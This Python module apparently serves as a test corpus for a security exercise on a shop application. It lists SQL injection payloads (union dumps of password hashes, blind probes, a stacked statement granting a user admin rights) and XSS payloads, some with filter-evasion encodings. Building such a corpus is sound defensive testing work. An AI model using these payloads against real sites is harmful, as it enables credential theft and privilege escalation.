"""The attack corpus: classic SQL injection and XSS payloads, each tagged with its class.

Given code. The payloads come from the OWASP Web Security Testing Guide and XSS Filter Evasion
Cheat Sheet, and PortSwigger's SQL injection and XSS cheat sheets, adapted to PostgreSQL and to
the entry points of this shop. A boolean-blind payload is a template: ``{condition}`` is a
yes/no question the attacker asks the database (``1=1`` and ``1=2`` prove the oracle works).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

SqlKind = Literal["classic", "union", "boolean-blind", "time-blind", "stacked"]
# Where the payload goes: a function argument of `vulnerable` / `safe`.
SqlEntry = Literal[
    "search",  # search_products(term)
    "login",  # login(username, ...)
    "sort-column",  # sorted_products(column, ...)
    "sort-direction",  # sorted_products(..., direction)
    "table",  # table_rows(table)
    "django-raw",  # django_users_named(username)
    "django-extra",  # django_users_starting(prefix)
]
XssContext = Literal["reflected", "stored", "attribute", "url"]


@dataclass(frozen=True)
class SqlPayload:
    kind: SqlKind
    entry: SqlEntry
    text: str

    def asking(self, condition: str) -> str:
        """The payload with its yes/no question filled in (boolean-blind templates)."""
        return self.text.replace("{condition}", condition)


@dataclass(frozen=True)
class XssPayload:
    context: XssContext
    text: str


PROMOTE_MALLORY = "UPDATE users SET is_admin = true WHERE username = 'mallory'"

SQL_PAYLOADS = [
    # classic: rewrite the WHERE clause to widen what the query returns
    SqlPayload("classic", "search", "' OR 1=1--"),
    SqlPayload("classic", "search", "%' OR '1'='1'--"),
    SqlPayload("classic", "login", "admin'--"),
    SqlPayload("classic", "login", "' OR 1=1--"),
    SqlPayload("classic", "login", "' OR 'a'='a'--"),
    SqlPayload("classic", "table", "(SELECT id, password_hash AS name FROM users) AS leaked"),
    SqlPayload("classic", "django-raw", "' OR '1'='1"),
    SqlPayload("classic", "django-extra", "' OR is_superuser OR username LIKE '"),
    # union: append rows from another table to the result the page shows
    SqlPayload("union", "search", "' UNION SELECT password_hash, 0 FROM users--"),
    SqlPayload(
        "union", "search", "' UNION SELECT username || ':' || password_hash, NULL FROM users--"
    ),
    SqlPayload("union", "login", "' UNION SELECT 1--"),
    SqlPayload("union", "table", "products UNION SELECT id, password_hash FROM users"),
    SqlPayload("union", "django-raw", "' UNION SELECT * FROM auth_user WHERE is_superuser--"),
    # boolean-blind: nothing leaks on the page, but the answer to {condition} shows as yes/no
    SqlPayload("boolean-blind", "search", "zzz' OR ({condition})--"),
    SqlPayload("boolean-blind", "search", "Keyboard%' AND ({condition})--"),
    SqlPayload("boolean-blind", "login", "admin' AND ({condition})--"),
    SqlPayload(
        "boolean-blind", "sort-column", "(CASE WHEN ({condition}) THEN name ELSE price::text END)"
    ),
    SqlPayload("boolean-blind", "table", "products WHERE ({condition})"),
    SqlPayload("boolean-blind", "django-extra", "zzz' OR ({condition}) OR username LIKE 'zzz"),
    # time-blind: the answer shows as a delay; here, as a call the sleep recorder logs
    SqlPayload("time-blind", "search", "'||pg_sleep(5)--"),
    SqlPayload("time-blind", "search", "' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    SqlPayload(
        "time-blind", "search", "'; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"
    ),
    SqlPayload("time-blind", "login", "admin'; SELECT pg_sleep(5)--"),
    SqlPayload("time-blind", "sort-column", "(SELECT 1 FROM pg_sleep(5))"),
    SqlPayload("time-blind", "sort-direction", "ASC, (SELECT 1 FROM pg_sleep(5))"),
    SqlPayload("time-blind", "table", "products, pg_sleep(5)"),
    # stacked: a second statement after `;`, here one that makes mallory an admin
    SqlPayload("stacked", "search", f"'; {PROMOTE_MALLORY}--"),
    SqlPayload("stacked", "login", f"x'; {PROMOTE_MALLORY}--"),
    SqlPayload("stacked", "sort-direction", f"DESC; {PROMOTE_MALLORY}--"),
    SqlPayload("stacked", "table", f"products; {PROMOTE_MALLORY}--"),
]

XSS_PAYLOADS = [
    # reflected: the search term, echoed in the page's heading
    XssPayload("reflected", "<script>alert(1)</script>"),
    XssPayload("reflected", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    XssPayload("reflected", "<img src=x onerror=alert(1)>"),
    XssPayload("reflected", "<svg onload=alert(1)>"),
    XssPayload("reflected", "<svg/onload=alert(1)>"),
    XssPayload("reflected", "<body onload=alert(1)>"),
    XssPayload("reflected", '<iframe src="javascript:alert(1)"></iframe>'),
    XssPayload("reflected", "<details open ontoggle=alert(1)>"),
    XssPayload("reflected", "<input autofocus onfocus=alert(1)>"),
    XssPayload("reflected", '"><script>alert(1)</script>'),
    # stored: a rich-text comment, saved and shown to every visitor
    XssPayload("stored", "<b>hello</b><script>alert(1)</script>"),
    XssPayload("stored", "<img src=x onerror=alert(1)>"),
    XssPayload("stored", '<p onclick="alert(1)">hi</p>'),
    XssPayload("stored", '<a href="javascript:alert(1)">click</a>'),
    XssPayload("stored", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    XssPayload("stored", '<a href="&#106;avascript:alert(1)">click</a>'),
    XssPayload("stored", '<a href="java&#x09;script:alert(1)">click</a>'),
    XssPayload("stored", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    XssPayload("stored", '<form action="javascript:alert(1)"><button>go</button></form>'),
    XssPayload("stored", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    XssPayload("stored", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    XssPayload("stored", '<object data="javascript:alert(1)"></object>'),
    # attribute: the display name, written into the avatar's alt attribute
    XssPayload("attribute", "x onerror=alert(1)"),
    XssPayload("attribute", "x onmouseover=alert(1)"),
    XssPayload("attribute", "x autofocus onfocus=alert(1)"),
    XssPayload("attribute", "><script>alert(1)</script>"),
    # url: the profile's website, written into a link's href
    XssPayload("url", "javascript:alert(1)"),
    XssPayload("url", "JavaScript:alert(document.cookie)"),
    XssPayload("url", "  javascript:alert(1)"),
    XssPayload("url", "java\tscript:alert(1)"),
    XssPayload("url", "javascript&colon;alert(1)"),
    XssPayload("url", 'https://example.com/" onmouseover="alert(1)'),
]
